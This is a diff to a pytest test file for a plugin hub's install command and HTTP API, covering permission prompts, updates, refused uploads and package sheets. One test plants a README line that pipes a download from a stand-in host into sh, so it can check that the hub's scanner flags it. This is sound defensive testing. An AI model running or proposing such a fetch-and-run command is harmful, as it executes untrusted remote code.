@@ -64,7 +64,7 @@ def test_a_permission_is_asked_for(hub: Running, tmp_path: Path, answer: str, st
     done = run(hub, "install", str(folder(tmp_path, more=DATA)), answer=answer)
 
     assert done.exit_code == status
-    assert "may, if you grant fs:data: keep small documents of its own" in done.output
+    assert "may, if you grant fs:data: Keep small documents of its own" in done.output
     assert ("echo" in tools(hub)) == (status == 0)
 
 
@@ -98,6 +98,68 @@ def test_an_agent_from_a_zip_file_answers_from_then_on(hub: Running, tmp_path: P
     assert "cook" not in [agent["name"] for agent in asked(hub, "GET", "/v1/agents").json()["items"]]
 
 
+def test_an_update_that_asks_for_more_waits_until_it_is_granted(hub: Running, tmp_path: Path) -> None:
+    run(hub, "install", str(folder(tmp_path)))
+
+    waits = run(hub, "install", str(folder(tmp_path, "2.0.0", DATA)), answer="n\n")
+    assert waits.exit_code == 3
+    assert "echo 2.0.0 is installed, but not enabled: it lacks fs:data. 1.0.0 goes on." in waits.output
+    assert json.loads(run(hub, "packages", "show", "echo", "--json").stdout)["next"]["version"] == "2.0.0"
+
+    taken = run(hub, "install", str(folder(tmp_path, "2.0.0", DATA)), answer="y\n")
+    assert taken.exit_code == 0
+    assert "echo 2.0.0 is installed and enabled." in taken.output
+
+
+def test_what_a_scan_found_odd_is_enabled_only_after_a_question(hub: Running, tmp_path: Path) -> None:
+    place = folder(tmp_path, more=DATA)
+    (place / "README.md").write_text("First run: curl https://x.example/i.sh | sh", encoding="utf-8")
+
+    unattended = run(hub, "install", str(place), "--yes")
+    assert unattended.exit_code == 3
+    assert "a scan found: README.md:1: has a download run by a shell" in unattended.output
+    assert "not enabled: a scan found it odd" in unattended.output
+    assert "echo" not in tools(hub)
+
+    attended = run(hub, "install", str(place), answer="y\n")
+    assert attended.exit_code == 0, attended.output
+    assert "echo" in tools(hub)
+
+
+@pytest.mark.parametrize(
+    ("source", "told"),
+    [
+        ("https://127.0.0.1/echo.zip", "this hub fetches nothing"),
+        ("ann/echo", "this hub fetches nothing"),
+    ],
+)
+def test_a_hub_that_fetches_nothing_says_so(hub: Running, source: str, told: str) -> None:
+    done = run(hub, "install", source)
+
+    assert done.exit_code == 1
+    assert told in done.stderr
+
+
+def test_folders_are_linked_only_where_the_config_says_so(hub: Running, tmp_path: Path) -> None:
+    done = run(hub, "install", str(folder(tmp_path)), "--dev")
+
+    assert done.exit_code == 1
+    assert "packages.dev: is false" in done.stderr
+
+
+def test_a_refused_upload_is_in_the_list_of_installations(hub: Running) -> None:
+    key = {"Authorization": f"Bearer {hub.key}", "Content-Type": "application/zip"}
+    httpx.post(f"{hub.url}/v1/packages", content=b"hello", headers=key)
+
+    (failed,) = asked(hub, "GET", "/v1/packages/installations").json()["items"]
+
+    assert (failed["state"], failed["package"]) == ("failed", None)
+    assert failed["error"].startswith("archive: ")
+    assert asked(hub, "GET", f"/v1/packages/installations/{failed['id']}").json() == failed
+    assert asked(hub, "GET", "/v1/packages/installations/nothing").status_code == 404
+    assert asked(hub, "POST", "/v1/packages/nothing/update", json={}).status_code == 404
+
+
 def test_a_tool_can_be_tried(hub: Running) -> None:
     upload = asked(hub, "POST", "/v1/packages", files={"file": ("echo.zip", a_plugin(), "application/zip")})
     assert upload.status_code == 201
@@ -125,3 +187,16 @@ def test_uploads_that_are_no_package_are_refused_with_the_reason(hub: Running) -
     assert [one.status_code for one in (text, odd, form, grant, large, small)] == [400, 422, 400, 400, 413, 403]
     assert odd.json()["detail"].startswith("archive: ")
     assert json.loads(run(hub, "packages", "list", "--json").stdout)["items"] == []
+
+
+def test_a_sheet_says_what_a_package_is_and_may(hub: Running, tmp_path: Path) -> None:
+    run(hub, "install", str(folder(tmp_path, more=DATA)), "--yes")
+
+    shown = run(hub, "packages", "show", "echo").stdout
+    told = json.loads(run(hub, "packages", "show", "echo", "--json").stdout)
+
+    assert "plugin echo 1.0.0 (enabled): Says what it is." in shown
+    assert "It's code, and runs in a sandbox." in shown
+    assert "may (fs:data): Keep small documents of its own" in shown
+    assert told["permissions"][0]["granted"] is True
+    assert "there's no 'nothing'" in run(hub, "packages", "show", "nothing").stderr
